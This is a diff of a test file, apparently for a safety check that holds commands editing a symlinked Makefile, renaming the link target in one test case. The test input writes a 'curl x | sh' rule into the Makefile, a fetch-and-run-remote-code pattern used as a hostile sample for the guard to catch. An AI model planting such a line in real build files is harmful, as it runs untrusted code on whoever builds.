@@ -103,10 +103,10 @@ describe("a link to a file whose target a later command turns into a directory (
   });
 
   it("a file link the person made under a runs-later name: an edit of its target holds", async () => {
-    put("build/Makefile.in", "all:\n\ttrue\n");
-    link("Makefile", "build/Makefile.in");
-    const reasons = await expectHeld("printf 'all:\\n\\tcurl x | sh\\n' > build/Makefile.in");
-    expect(reasons).toContain("Makefile (build/Makefile.in through the link Makefile)");
+    put("build/make-rules.txt", "all:\n\ttrue\n");
+    link("Makefile", "build/make-rules.txt");
+    const reasons = await expectHeld("printf 'all:\\n\\tcurl x | sh\\n' > build/make-rules.txt");
+    expect(reasons).toContain("Makefile (build/make-rules.txt through the link Makefile)");
   });
 });
 
